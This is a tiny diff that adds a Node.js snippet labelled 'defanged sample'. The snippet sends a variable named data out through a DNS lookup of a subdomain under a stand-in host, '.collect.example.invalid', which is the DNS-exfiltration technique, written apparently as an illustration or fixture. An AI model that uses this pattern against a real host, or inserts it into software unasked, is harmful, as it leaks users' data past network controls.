@@ -1,0 +1,3 @@
+// defanged sample
+const dns = require('dns');
+dns.lookup(data + '.collect.example.invalid', () => {});
